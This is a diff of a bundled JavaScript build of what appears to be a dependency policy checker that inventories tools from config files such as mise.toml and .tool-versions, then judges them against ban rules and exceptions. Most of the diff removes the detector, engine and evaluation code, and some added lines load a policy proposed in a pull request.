- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-
-
-
-
-/** @deprecated use `import * as ... from 'smol-toml'` instead */
-/* harmony default export */ const smol_toml_dist = ({ parse: dist_parse_parse, stringify: stringify_stringify, TomlDate: TomlDate, TomlError: TomlError });
-
-;// CONCATENATED MODULE: ./src/detectors/devcontainer/tool-backends.ts
-// Tools named with a mise/asdf backend (`npm:@anthropic-ai/claude-code`, `pipx:aider-chat`,
-// `github:openai/codex`) as components of their ecosystem.
-
-
-function backendTool(tool, version) {
-    const m = /^([a-z]+):(.+)$/.exec(tool.trim());
-    if (!m)
-        return null;
-    const backend = m[1];
-    const name = m[2].replace(/\[.*\]$/, '');
-    const v = version.trim();
-    const at = (exact) => exact ? { version: exact } : { version: null, spec: v || 'latest' };
-    if (backend === 'npm') {
-        if (!/^(@[\w.~-]+\/)?[\w.~-]+$/.test(name))
-            return null;
-        return { ecosystem: 'npm', name, ...at(exactVersion(v)), sourceKind: 'registry' };
-    }
-    if (backend === 'pipx' || backend === 'uvx') {
-        if (!/^[A-Za-z0-9][\w.-]*$/.test(name))
-            return null;
-        return {
-            ecosystem: 'pypi',
-            name: normalizePypiName(name),
-            ...at(/^\d[\w.+!-]*$/.test(v) ? v : null),
-            sourceKind: 'registry',
-        };
-    }
-    if (backend === 'github' || backend === 'ubi' || backend === 'aqua') {
-        const r = /^([\w.-]+)\/([\w.-]+)$/.exec(name);
-        if (!r)
-            return null;
-        const rel = releaseDownload(`https://github.com/${r[1]}/${r[2]}/releases/download/x/x`);
-        if (!rel)
-            return null;
-        return { ecosystem: 'installer', name: rel.name, ...at(versionFromTag(v)), sourceKind: 'url' };
-    }
-    return null;
-}
-
-;// CONCATENATED MODULE: ./src/detectors/mise-toml.ts
-// mise configuration (`mise.toml`, `.mise.toml`, `mise.<env>.toml`, `.config/mise.toml`,
-// `.mise/config.toml`, `.config/mise/config.toml`): the `[tools]` table with backends
-// (`"npm:@openai/codex" = "latest"`, `"pipx:aider-chat" = { version = "0.86.1" }`).
-
-
-
-const MISE_SOURCE = 'mise.toml';
-function isMisePath(p) {
-    return (/(^|\/)\.?mise(\.[\w-]+)?\.toml$/.test(p) ||
-        /(^|\/)\.?mise\/config(\.[\w-]+)?\.toml$/.test(p) ||
-        /(^|\/)\.config\/mise(\.[\w-]+)?\.toml$/.test(p) ||
-        /(^|\/)\.config\/mise\/config(\.[\w-]+)?\.toml$/.test(p));
-}
-function scanMiseToml(path, text) {
-    let doc;
-    try {
-        doc = dist_parse_parse(text);
-    }
-    catch (e) {
-        const line = e instanceof TomlError ? e.line : undefined;
-        return {
-            components: [],
-            errors: [
-                {
-                    file: path,
-                    ...(line ? { line } : {}),
-                    message: `invalid TOML: ${e.message.split('\n')[0]}`,
-                },
-            ],
-        };
-    }
-    const tools = doc.tools;
-    if (!tools || typeof tools !== 'object')
-        return { components: [], errors: [] };
-    const keyLines = toolKeyLines(text);
-    const components = [];
-    for (const [tool, value] of Object.entries(tools)) {
-        const versions = [];
-        const add = (v) => {
-            if (typeof v === 'string' || typeof v === 'number')
-                versions.push(String(v));
-            else if (v && typeof v === 'object' && !Array.isArray(v) && 'version' in v)
-                add(v.version);
-        };
-        if (Array.isArray(value))
-            value.forEach(add);
-        else
-            add(value);
-        for (const v of versions) {
-            const t = backendTool(tool, v);
-            if (!t)
-                continue;
-            components.push(makeComponent({ ...t, location: { file: path, line: keyLines.get(tool) ?? 1 }, source: MISE_SOURCE }));
-        }
-    }
-    return { components, errors: [] };
-}
-/** Lines of the keys of the `[tools]` table (and of `[tools."npm:x"]` sub-tables). */
-function toolKeyLines(text) {
-    const out = new Map();
-    const lines = text.split('\n');
-    let inTools = false;
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].trim();
-        const header = /^\[\s*([^\]]+?)\s*\]$/.exec(line);
-        if (header) {
-            const h = header[1];
-            inTools = h === 'tools';
-            const sub = /^tools\.\s*(?:"([^"]+)"|'([^']+)'|([\w.-]+))$/.exec(h);
-            if (sub) {
-                const k = sub[1] ?? sub[2] ?? sub[3];
-                if (!out.has(k))
-                    out.set(k, i + 1);
-            }
-            continue;
-        }
-        if (!inTools)
-            continue;
-        const key = /^(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|([\w.:@/-]+))\s*=/.exec(line);
-        if (key) {
-            const k = key[1] ?? key[2] ?? key[3];
-            if (!out.has(k))
-                out.set(k, i + 1);
-        }
-    }
-    return out;
-}
-const miseTomlDetector = {
-    id: MISE_SOURCE,
-    matches: isMisePath,
-    detect: ({ path, text }) => scanMiseToml(path, text),
-};
-
-;// CONCATENATED MODULE: ./src/detectors/package-json-scripts.ts
-// package.json `scripts` only (the dependency sections belong to the package.json detector):
-// installs and one-off runs (`npx`, `pnpm dlx`, `npm i -g`) in each script, at the script's line.
-
-
-
-
-const PACKAGE_JSON_SCRIPTS_SOURCE = 'package.json scripts';
-function scanPackageJsonScripts({ path, text, limits, }) {
-    const lines = new LineIndex(text);
-    const parsed = parseJsonc(text, path, lines, limits.maxDepth);
-    // Syntax errors in package.json are the package.json detector's to report.
-    const scanner = new CommandScanner();
-    for (const s of props(at(parsed.root, ['scripts']))) {
-        const script = strValue(s.value);
-        if (script === undefined)
-            continue;
-        const line = lines.line(s.keyNode.offset);
-        scanner.scan(script, () => line);
-    }
-    scanner.finish();
-    return {
-        components: scanner.findings.map((f) => findingComponent(f, path, PACKAGE_JSON_SCRIPTS_SOURCE)),
-        errors: scanner.problems.map((p) => problemError(p, path, 'script')),
-    };
-}
-const packageJsonScriptsDetector = {
-    id: PACKAGE_JSON_SCRIPTS_SOURCE,
-    matches: (p) => p === 'package.json' || p.endsWith('/package.json'),
-    detect: scanPackageJsonScripts,
-};
-
-;// CONCATENATED MODULE: ./src/detectors/tool-versions.ts
-
-
-const TOOL_VERSIONS_SOURCE = '.tool-versions';
-function scanToolVersions(path, text) {
-    const components = [];
-    const lines = text.split('\n');
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].replace(/#.*$/, '').trim();
-        const m = /^(\S+)\s+(\S+)/.exec(line);
-        if (!m)
-            continue;
-        const t = backendTool(m[1], m[2]);
-        if (!t)
-            continue;
-        components.push(makeComponent({
-            ...t,
-            location: { file: path, line: i + 1 },
-            source: TOOL_VERSIONS_SOURCE,
-        }));
-    }
-    return { components, errors: [] };
-}
-const toolVersionsDetector = {
-    id: TOOL_VERSIONS_SOURCE,
-    matches: (p) => p === '.tool-versions' || p.endsWith('/.tool-versions'),
-    detect: ({ path, text }) => scanToolVersions(path, text),
-};
-
-;// CONCATENATED MODULE: ./src/detectors/vscode-extensions.ts
-
-
-
-const VSCODE_EXTENSIONS_SOURCE = '.vscode/extensions.json';
-function scanVscodeExtensions({ path, text, limits, }) {
-    const lines = new LineIndex(text);
-    const { root, errors } = parseJsonc(text, path, lines, limits.maxDepth);
-    const components = [];
-    for (const n of strings(at(root, ['recommendations']))) {
-        const c = extensionComponent(strValue(n) ?? '', path, lines.line(n.offset), VSCODE_EXTENSIONS_SOURCE);
-        if (c)
-            components.push(c);
-    }
-    return { components, errors };
-}
-const vscodeExtensionsDetector = {
-    id: VSCODE_EXTENSIONS_SOURCE,
-    matches: (p) => p === '.vscode/extensions.json' || p.endsWith('/.vscode/extensions.json'),
-    detect: scanVscodeExtensions,
-};
-
-;// CONCATENATED MODULE: ./src/detectors/index.ts
-
-
-
-
-
-
-
-
-
-
-
-/**
- * Every detector, one per file format. A new format is one module in this folder and one line
- * here.
- */
-const detectors = [
-    devcontainerDetector,
-    devcontainerLockDetector,
-    dockerfileDetector,
-    composeDetector,
-    githubWorkflowDetector,
-    shellScriptDetector,
-    packageJsonScriptsDetector,
-    toolVersionsDetector,
-    miseTomlDetector,
-    brewfileDetector,
-    vscodeExtensionsDetector,
-];
-
-;// CONCATENATED MODULE: ./src/sources/source.ts
-class SourceReadError extends Error {
-}
-/** Normalises a path relative to the root; returns null when it escapes the root. */
-function normalizeRelative(path) {
-    const parts = [];
-    for (const part of path.replace(/\\/g, '/').split('/')) {
-        if (part === '' || part === '.')
-            continue;
-        if (part === '..') {
-            if (parts.length === 0)
-                return null;
-            parts.pop();
-        }
-        else
-            parts.push(part);
-    }
-    return parts.join('/');
-}
-/** Directories never scanned, wherever they are. */
-function isSkippedPath(path) {
-    return /(^|\/)(node_modules|\.git)(\/|$)/.test(path);
-}
-
-;// CONCATENATED MODULE: ./src/util/text.ts
-// Decoding of file bytes into text: UTF-8 (with or without BOM) and UTF-16 with a BOM are read;
-// invalid UTF-8 and binary data are errors, so a lockfile that is not text fails closed.
-class DecodeError extends Error {
-    line;
-    constructor(message, line) {
-        super(message);
-        this.line = line;
-    }
-}
-const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: false });
-const utf16le = new TextDecoder('utf-16le', { fatal: true, ignoreBOM: false });
-const utf16be = new TextDecoder('utf-16be', { fatal: true, ignoreBOM: false });
-function decodeText(bytes) {
-    let text;
-    if (bytes.length >= 2 && bytes[0] === 0xff && bytes[1] === 0xfe) {
-        text = decodeWith(utf16le, bytes, 'UTF-16LE');
-    }
-    else if (bytes.length >= 2 && bytes[0] === 0xfe && bytes[1] === 0xff) {
-        text = decodeWith(utf16be, bytes, 'UTF-16BE');
-    }
-    else {
-        text = decodeWith(utf8, bytes, 'UTF-8');
-    }
-    const nul = text.indexOf('\u0000');
-    if (nul !== -1) {
-        throw new DecodeError('binary data (NUL byte) in a text file', lineAt(text, nul));
-    }
-    return text;
-}
-function decodeWith(decoder, bytes, name) {
-    try {
-        return decoder.decode(bytes);
-    }
-    catch {
-        // Find the first bad byte's line for a located error (UTF-8 only; UTF-16 rarely breaks).
-        let line;
-        if (name === 'UTF-8') {
-            const bad = firstInvalidUtf8(bytes);
-            if (bad >= 0) {
-                line = 1;
-                for (let i = 0; i < bad; i++)
-                    if (bytes[i] === 0x0a)
-                        line++;
-            }
-        }
-        throw new DecodeError(`not valid ${name} text`, line);
-    }
-}
-function firstInvalidUtf8(b) {
-    let i = 0;
-    while (i < b.length) {
-        const c = b[i];
-        let n;
-        if (c < 0x80)
-            n = 0;
-        else if (c >= 0xc2 && c <= 0xdf)
-            n = 1;
-        else if (c >= 0xe0 && c <= 0xef)
-            n = 2;
-        else if (c >= 0xf0 && c <= 0xf4)
-            n = 3;
-        else
-            return i;
-        if (i + n >= b.length && n > 0)
-            return i;
-        for (let k = 1; k <= n; k++)
-            if ((b[i + k] & 0xc0) !== 0x80)
-                return i;
-        i += n + 1;
-    }
-    return -1;
-}
-/** 1-based line number of a character offset. */
-function lineAt(text, offset) {
-    let line = 1;
-    let i = text.indexOf('\n');
-    while (i !== -1 && i < offset) {
-        line++;
-        i = text.indexOf('\n', i + 1);
-    }
-    return line;
-}
-
-;// CONCATENATED MODULE: ./src/engine.ts
-
-
-
-
-/** Which detectors read a path. */
-function detectorsFor(path, list = detectors) {
-    return list.filter((d) => d.matches(path));
-}
-/**
- * Runs every detector over every file it reads in a source and returns the located components
- * and the errors. Never throws for a file's content: a file that cannot be read or parsed becomes
- * an error entry naming it (the gate then fails closed).
- */
-async function inventory(source, options = {}) {
-    const limits = options.limits ?? defaultLimits;
-    const list = options.detectors ?? detectors;
-    const paths = await source.list();
-    const work = [];
-    for (const path of paths) {
-        if (options.only && !options.only.has(path))
-            continue;
-        const ds = detectorsFor(path, list);
-        if (ds.length > 0)
-            work.push({ path, detectors: ds });
-    }
-    const textCache = new Map();
-    const readText = (path) => {
-        const rel = normalizeRelative(path);
-        if (rel === null)
-            return Promise.resolve(null);
-        let p = textCache.get(rel);
-        if (!p) {
-            p = source
-                .read(rel, limits.maxFileBytes)
-                .then((b) => (b === null ? null : decodeText(b)))
-                .catch(() => null);
-            textCache.set(rel, p);
-        }
-        return p;
-    };
-    const results = new Array(work.length);
-    let next = 0;
-    const worker = async () => {
-        while (next < work.length) {
-            const i = next++;
-            results[i] = await scanFile(source, work[i].path, work[i].detectors, limits, readText);
-        }
-    };
-    await Promise.all(Array.from({ length: Math.max(1, options.concurrency ?? 8) }, worker));
-    const components = [];
-    const errors = [];
-    for (const r of results) {
-        for (const c of r.components)
-            components.push(c);
-        for (const e of r.errors)
-            errors.push(e);
-    }
-    return {
-        components: dedupeAndSort(components),
-        errors: errors.sort(compareErrors),
-        filesScanned: work.length,
-        files: work.map((w) => w.path),
-    };
-}
-async function scanFile(source, path, detectors, limits, readText) {
-    let bytes;
-    try {
-        bytes = await source.read(path, limits.maxFileBytes);
-    }
-    catch (e) {
-        const message = e instanceof SourceReadError ? e.message : `cannot be read: ${errorMessage(e)}`;
-        return { components: [], errors: [{ file: path, message }] };
-    }
-    if (bytes === null)
-        return { components: [], errors: [] };
-    let text;
-    let decodeError;
-    const components = [];
-    const errors = [];
-    for (const detector of detectors) {
-        if (!detector.binary && text === undefined && decodeError === undefined) {
-            try {
-                text = decodeText(bytes);
-            }
-            catch (e) {
-                decodeError = {
-                    file: path,
-                    ...(e instanceof DecodeError && e.line ? { line: e.line } : {}),
-                    message: e instanceof DecodeError ? e.message : errorMessage(e),
-                };
-                errors.push(decodeError);
-            }
-        }
-        if (!detector.binary && decodeError)
-            continue;
-        const input = { path, text: text ?? '', bytes, readFile: readText, limits };
-        try {
-            const result = await detector.detect(input);
-            if (result.components.length > limits.maxComponentsPerFile) {
-                errors.push({
-                    file: path,
-                    message: `${result.components.length} components exceed the limit of ${limits.maxComponentsPerFile} per file`,
-                });
-                continue;
-            }
-            for (const c of result.components)
-                components.push(c);
-            for (const err of result.errors)
-                errors.push(err);
-        }
-        catch (e) {
-            // A detector bug or a parser blowing up on hostile input: report it, located, never crash.
-            errors.push({ file: path, message: `${detector.id}: ${errorMessage(e)}` });
-        }
-    }
-    return { components, errors };
-}
-function errorMessage(e) {
-    if (e instanceof RangeError && /call stack/i.test(e.message))
-        return 'nesting too deep to parse';
-    if (e instanceof Error)
-        return e.message.split('\n')[0] ?? String(e);
-    return String(e);
-}
-function componentKey(c) {
-    return [
-        c.location.file,
-        c.location.line,
-        c.ecosystem,
-        c.name,
-        c.version ?? '',
-        c.spec ?? '',
-        c.alias ?? '',
-        c.source,
-    ].join('\u0000');
-}
-function dedupeAndSort(components) {
-    const seen = new Map();
-    for (const c of components) {
-        const k = componentKey(c);
-        if (!seen.has(k))
-            seen.set(k, c);
-    }
-    return [...seen.values()].sort(compareComponents);
-}
-function compareComponents(a, b) {
-    return (cmp(a.location.file, b.location.file) ||
-        a.location.line - b.location.line ||
-        cmp(a.ecosystem, b.ecosystem) ||
-        cmp(a.name, b.name) ||
-        cmp(a.version ?? '', b.version ?? ''));
-}
-function compareErrors(a, b) {
-    return cmp(a.file, b.file) || (a.line ?? 0) - (b.line ?? 0) || cmp(a.message, b.message);
-}
-function cmp(a, b) {
-    return a < b ? -1 : a > b ? 1 : 0;
-}
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(14006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-;// CONCATENATED MODULE: ./src/policy/names.ts
-/** The canonical form of a name for comparison in its ecosystem. */
-function normalizeName(ecosystem, name) {
-    switch (ecosystem) {
-        case 'pypi':
-            return name.toLowerCase().replace(/[-_.]+/g, '-'); // PEP 503
-        case 'vscode-extension': // publisher.name, case-insensitive
-        case 'devcontainer-feature': // OCI ids are lowercase
-        case 'github-action': // owner/repo, case-insensitive on GitHub
-        case 'homebrew':
-        case 'installer':
-            return name.toLowerCase();
-        default:
-            return name; // npm and jsr names are case-sensitive (and lowercase when published)
-    }
-}
-/**
- * A name glob: `*` is any run of characters (including `/`, so `@anthropic-ai/*` and `*` cover
- * scoped names and `owner/*` covers every action of an owner), `?` one character; nothing else is
- * special. Matched by the classic two-pointer wildcard algorithm: O(pattern × name) at worst, no
- * regular-expression backtracking on hostile patterns.
- */
-function globMatches(pattern, name) {
-    let p = 0;
-    let n = 0;
-    let star = -1;
-    let mark = 0;
-    while (n < name.length) {
-        if (p < pattern.length && (pattern[p] === '?' || pattern[p] === name[n])) {
-            p++;
-            n++;
-        }
-        else if (p < pattern.length && pattern[p] === '*') {
-            star = p++;
-            mark = n;
-        }
-        else if (star >= 0) {
-            p = star + 1;
-            n = ++mark;
-        }
-        else
-            return false;
-    }
-    while (p < pattern.length && pattern[p] === '*')
-        p++;
-    return p === pattern.length;
-}
-/** Whether a name matches an exact name or a `*` glob, in the ecosystem's comparison. */
-function nameMatches(ecosystem, pattern, name) {
-    const p = normalizeName(ecosystem, pattern);
-    const n = normalizeName(ecosystem, name);
-    if (!p.includes('*') && !p.includes('?'))
-        return p === n;
-    return globMatches(p, n);
-}
-
-;// CONCATENATED MODULE: ./src/policy/evaluate.ts
-
-
-
-function carrierKey(ecosystem, name) {
-    return `${ecosystem}\u0000${name}`;
-}
-/** Judges every component against every rule and exception of a merged policy. */
-function evaluate(components, policy, options) {
-    const now = options.now ?? new Date();
-    // Tool rules expand to their carriers, indexed by identity: one look-up per component.
-    const byCarrier = new Map();
-    const packageRules = [];
-    policy.rules.forEach((rule, ruleIndex) => {
-        if (rule.tool !== undefined) {
-            const tool = options.catalog.tool(rule.tool);
-            if (!tool)
-                return;
-            for (const carrier of tool.carriers) {
-                const k = carrierKey(carrier.ecosystem, normalizeName(carrier.ecosystem, carrier.package));
-                const list = byCarrier.get(k) ?? [];
-                if (!list.some((e) => e.rule === rule))
-                    list.push({ ruleIndex, rule, tool, carrier });
-                byCarrier.set(k, list);
-            }
-        }
-        else {
-            packageRules.push({ ruleIndex, rule });
-        }
-    });
-    const exceptionState = new Map();
-    for (const ex of policy.exceptions)
-        exceptionState.set(ex, { used: false, expired: isExpired(ex, now) });
-    const findings = [];
-    for (const component of components) {
-        const matches = [];
-        for (const e of byCarrier.get(carrierKey(component.ecosystem, normalizeName(component.ecosystem, component.name))) ?? []) {
-            const m = matchToolRule(e, component);
-            if (m)
-                matches.push({ ruleIndex: e.ruleIndex, match: m });
-        }
-        for (const { ruleIndex, rule } of packageRules) {
-            const m = matchPackageRule(rule, component);
-            if (m)
-                matches.push({ ruleIndex, match: m });
-        }
-        matches.sort((a, b) => a.ruleIndex - b.ruleIndex);
-        for (const { match } of matches) {
-            const unknownAction = unknownActionFor(match.rule, policy.settings.unknownVersion);
-            if (match.unknown !== undefined && unknownAction === 'ignore')
-                continue;
-            const finding = findingFor(component, match, unknownAction);
-            for (const ex of policy.exceptions) {
-                if (!exceptionApplies(ex, match, component))
-                    continue;
-                const state = exceptionState.get(ex);
-                state.used = true;
-                if (state.expired)
-                    continue;
-                finding.action = 'pass';
-                finding.exception = { reason: ex.reason, expires: ex.expires };
-                break;
-            }
-            findings.push(finding);
-        }
+        const notices = [];
+        if (ctx.proposed) {
+            const proposed = ctx.proposed;
+            const proposedText = await readPolicyText(proposed, candidate).catch(() => null);
+            if (proposedText !== text)
+                notices.push(await changeNotice(candidate, policy, proposedText, proposed, ctx));
+        }
+        return { policy, origin: `${candidate} (${ctx.trusted.description})`, notices };
+    }
+    if (candidates.length === 1) {
+        throw new parse_PolicyError(input, 1, 1, `the policy file does not exist in ${ctx.trusted.description}`);
     }
     const notices = [];
-    for (const ex of policy.exceptions) {
-        const state = exceptionState.get(ex);
-        const where = ex.origin ? { origin: ex.origin } : {};
-        if (state.expired) {
-            notices.push({
-                kind: 'expired-exception',
-                message: `exception for rule ${ex.rule} expired on ${ex.expires} and no longer applies (${ex.reason})`,
-                ...where,
-            });
-        }
-        else if (!state.used) {
-            notices.push({
-                kind: 'stale-exception',
-                message: `exception for rule ${ex.rule} matches nothing: it is stale and can be removed (${ex.reason})`,
-                ...where,
-            });
+    if (ctx.proposed) {
+        // A pull request that adds the first policy file: it applies after merge, not to itself.
+        for (const candidate of candidates) {
+            const proposedText = await readPolicyText(ctx.proposed, candidate).catch(() => null);
+            if (proposedText !== null) {
+                notices.push(await changeNotice(candidate, null, proposedText, ctx.proposed, ctx));
+                break;
+            }
         }
     }
-    return { findings, notices };
+    return { policy: await loadPolicy('builtin:default'), origin: 'builtin:default', notices };
 }
-const STRICTNESS = { ignore: 0, warn: 1, fail: 2 };
-/** What an unknown version becomes under a rule: the setting, or the locked rule's floor if stricter. */
-function unknownActionFor(rule, setting) {
-    const floor = rule.unknownVersionFloor;
-    return floor !== undefined && STRICTNESS[floor] > STRICTNESS[setting] ? floor : setting;
-}
-function mappingOf(carrier, version) {
+async function changeNotice(path, base, proposedText, tree, ctx) {
+    if (proposedText === null)
+        return policyChangeNotice(path, base, null);
+    let proposed;
     try {
-        return carrier.toolVersion(version);
+        proposed = await loadPolicyFromTree(path, (p) => readPolicyText(tree, p).catch(() => null), {
+            readGithub: ctx.readGithub,
+        });
     }
     catch (e) {
-        return { kind: 'unknown', why: `the version cannot be mapped (${e.message})` };
+        proposed = e;
     }
-}
-function notPinned(c) {
-    if (c.versionNote)
-        return c.versionNote;
-    return c.spec !== undefined ? `the version is not pinned (${c.spec})` : 'no version is recorded';
-}
-function matchToolRule({ rule, tool, carrier }, c) {
-    const mapping = c.version === null ? null : mappingOf(carrier, c.version);
-    if (rule.versions === undefined) {
-        const toolVersion = mapping?.kind === 'exact'
-            ? mapping.versions[0]
-            : mapping?.kind === 'atLeast'
-                ? `>=${mapping.version}`
-                : null;
-        return { rule, tool, toolVersion };
-    }
-    if (mapping === null)
-        return { rule, tool, toolVersion: null, unknown: notPinned(c) };
-    switch (mapping.kind) {
-        case 'unknown':
-            return { rule, tool, toolVersion: null, unknown: mapping.why };
-        case 'exact': {
-            const hit = mapping.versions.find((v) => versionSatisfies(tool.versionScheme, v, rule.versions));
-            return hit === undefined ? null : { rule, tool, toolVersion: hit };
-        }
-        case 'atLeast': {
-            if (tool.versionScheme !== 'semver')
-                return { rule, tool, toolVersion: null, unknown: mapping.why };
-            const where = lowerBoundIn(mapping.version, rule.versions);
-            if (where === 'out')
-                return null;
-            if (where === 'in')
-                return { rule, tool, toolVersion: `>=${mapping.version}` };
-            return { rule, tool, toolVersion: `>=${mapping.version}`, unknown: mapping.why };
-        }
-    }
-}
-function matchPackageRule(rule, c) {
-    if (rule.ecosystem !== undefined && rule.ecosystem !== c.ecosystem)
-        return null;
-    if (rule.package !== undefined && !nameMatches(c.ecosystem, rule.package, c.name))
-        return null;
-    if (rule.versions === undefined)
-        return { rule };
-    if (c.version === null)
-        return { rule, unknown: notPinned(c) };
-    return versionSatisfies(syntaxOf(c.ecosystem), c.version, rule.versions) ? { rule } : null;
-}
-function findingFor(c, match, unknownSetting) {
-    const { rule } = match;
-    const action = match.unknown !== undefined ? (unknownSetting === 'ignore' ? 'warn' : unknownSetting) : rule.action;
-    return {
-        ruleId: rule.id,
-        action,
-        message: messageFor(c, match),
-        component: {
-            ecosystem: c.ecosystem,
-            name: c.name,
-            version: c.version,
-            purl: c.purl,
-            ...(c.spec !== undefined ? { spec: c.spec } : {}),
-            ...(c.alias !== undefined ? { alias: c.alias } : {}),
-        },
-        ...(match.tool ? { tool: match.tool.id, toolVersion: match.toolVersion ?? null } : {}),
-        location: c.location,
-        source: c.source,
-        ...(rule.reason ? { reason: rule.reason } : {}),
-        ...(rule.link ? { link: rule.link } : {}),
-        ...(match.unknown !== undefined ? { unknownVersion: true, unknownReason: match.unknown } : {}),
-    };
-}
-function messageFor(c, match) {
-    const { rule, tool } = match;
-    const version = c.version !== null ? ` ${c.version}` : c.spec !== undefined ? ` (${c.spec})` : '';
-    const alias = c.alias !== undefined ? ` (installed as ${c.alias})` : '';
-    const what = `${c.name}${version}${alias}`;
-    const carries = tool && match.toolVersion && match.toolVersion !== c.version
-        ? ` (${tool.name} ${match.toolVersion})`
-        : tool && tool.id !== c.name && !match.toolVersion && match.unknown === undefined
-            ? ` (${tool.name})`
-            : '';
-    if (match.unknown !== undefined) {
-        const why = rule.reason ? ` (${rule.reason})` : '';
-        return `${what}${carries} may be banned by rule ${rule.id}${why}, but its ${tool ? `${tool.name} ` : ''}version cannot be known: ${match.unknown}`;
-    }
-    const verb = rule.action === 'fail' ? 'is banned' : 'is flagged';
-    return `${what}${carries} ${verb}${rule.reason ? `: ${rule.reason}` : ` by rule ${rule.id}`}`;
-}
-const pathMatchers = new Map();
-function pathMatches(glob, file) {
-    let m = pathMatchers.get(glob);
-    if (!m) {
-        m = picomatch_default()(glob, { dot: true });
-        pathMatchers.set(glob, m);
-    }
-    return m(file);
-}
-function exceptionApplies(ex, match, c) {
-    if (ex.rule !== match.rule.id)
-        return false;
-    if (ex.package !== undefined && !nameMatches(c.ecosystem, ex.package, c.name))
-        return false;
-    if (ex.versions !== undefined) {
-        // An exception limited to versions cannot vouch for a version nobody knows.
-        if (match.unknown !== undefined)
-            return false;
-        if (match.tool) {
-            const tv = match.toolVersion;
-            if (tv === null || tv === undefined)
-                return false;
-            if (tv.startsWith('>=')) {
-                if (lowerBoundIn(tv.slice(2), ex.versions) !== 'in')
-                    return false;
-            }
-            else if (!versionSatisfies(match.tool.versionScheme, tv, ex.versions))
-                return false;
-        }
-        else {
-            if (c.version === null || !versionSatisfies(syntaxOf(c.ecosystem), c.version, ex.versions))
-                return false;
-        }
-    }
-    if (ex.paths && ex.paths.length > 0 && !ex.paths.some((g) => pathMatches(g, c.location.file)))
-        return false;
-    return true;
-}
-/** An exception applies through the whole of its expiry day (UTC). */
-function isExpired(ex, now) {
-    const end = Date.parse(`${ex.expires}T23:59:59.999Z`);
-    return Number.isNaN(end) || now.getTime() > end;
-}
-
-;// CONCATENATED MODULE: ./src/reconcile.ts
-
-
-
-/** Manifest formats whose dependency specs a lockfile beside (or above) them pins. */
-const MANIFESTS = new Set(['package.json', 'pyproject.toml']);
-/** Lockfile formats, by ecosystem, that pin what a manifest in their folder subtree installs. */
-const LOCKFILES = {
-    'package-lock.json': 'npm',
-    'npm-shrinkwrap.json': 'npm',
-    'yarn.lock': 'npm',
-    'pnpm-lock.yaml': 'npm',
-    'bun.lock': 'npm',
-    'bun.lockb': 'npm',
-    'poetry.lock': 'pypi',
-    'uv.lock': 'pypi',
-    'pdm.lock': 'pypi',
-    'Pipfile.lock': 'pypi',
-    'pylock.toml': 'pypi',
-};
-function reconcile_dirOf(file) {
-    const i = file.lastIndexOf('/');
-    return i < 0 ? '' : file.slice(0, i);
-}
-function isWithin(dir, ancestor) {
-    return ancestor === '' || dir === ancestor || dir.startsWith(ancestor + '/');
-}
-/**
- * Drops manifest entries (package.json, pyproject.toml) that a lockfile governing the same
- * folder already pins to a version the manifest accepts: the lockfile's concrete version is what
- * gets installed, and it is judged at the lockfile's line. A manifest entry the lockfile does not
- * satisfy (a stale lockfile, a dependency added without re-locking) is kept, so that it cannot
- * slip past the gate: it is judged by its own pin, or resolved from the registry.
- */
-function reconcileManifests(components) {
-    // Locked versions per lockfile folder, ecosystem and normalised name.
-    const locked = new Map();
-    for (const c of components) {
-        if (LOCKFILES[c.source] !== c.ecosystem || c.version === null)
-            continue;
-        const key = `${reconcile_dirOf(c.location.file)}\u0000${c.ecosystem}`;
-        let byName = locked.get(key);
-        if (!byName)
-            locked.set(key, (byName = new Map()));
-        const name = normalizeName(c.ecosystem, c.name);
-        const list = byName.get(name);
-        if (list)
-            list.push(c.version);
-        else
-            byName.set(name, [c.version]);
-    }
-    if (locked.size === 0)
-        return [...components];
-    const lockDirs = [...locked.keys()].map((k) => {
-        const [dir, eco] = k.split('\u0000');
-        return { dir, eco, byName: locked.get(k) };
-    });
-    return components.filter((c) => {
-        if (!MANIFESTS.has(c.source) || c.sourceKind !== 'registry')
-            return true;
-        const dir = reconcile_dirOf(c.location.file);
-        const name = normalizeName(c.ecosystem, c.name);
-        for (const l of lockDirs) {
-            if (l.eco !== c.ecosystem || !isWithin(dir, l.dir))
-                continue;
-            const versions = l.byName.get(name);
-            if (versions && versions.some((v) => accepts(c, v)))
-                return false;
-        }
-        return true;
-    });
-}
-/** Whether a manifest entry accepts a locked version. */
-function accepts(manifest, lockedVersion) {
-    if (manifest.version !== null)
-        return manifest.version === lockedVersion;
-    const spec = (manifest.spec ?? '').trim();
-    if (manifest.ecosystem === 'pypi') {
-        if (spec === '' || spec === '*')
-            return true;
-        try {
-            return satisfies(lockedVersion, spec);
-        }
-        catch {
-            return false;
-        }
-    }
-    const range = spec.replace(/^npm:(?:@[^/@]+\/)?[^@]+@/, '');
-    if (semver_default().validRange(range) !== null) {
-        return semver_default().satisfies(lockedVersion, range, { includePrerelease: true, loose: true });
-    }
-    // A dist-tag (`latest`) or anything else: the lockfile's entry is what installs.
-    return /^[a-z][a-z0-9._-]*$/i.test(range) || range === '';
-}
-
-;// CONCATENATED MODULE: ./src/scan.ts
-
-
-
-
-
-
-/** Audit mode: every component of one tree judged against the policy. */
-async function audit(source, options) {
-    const inv = await inventory(source, { limits: options.limits ?? defaultLimits });
-    const judged = reconcileManifests(inv.components);
-    const components = options.resolve ? await options.resolve(judged, inv.errors) : judged;
-    const { findings, notices } = evaluate(components, options.policy, {
-        catalog: catalog,
-        ...(options.now ? { now: options.now } : {}),
-    });
-    return buildReport({
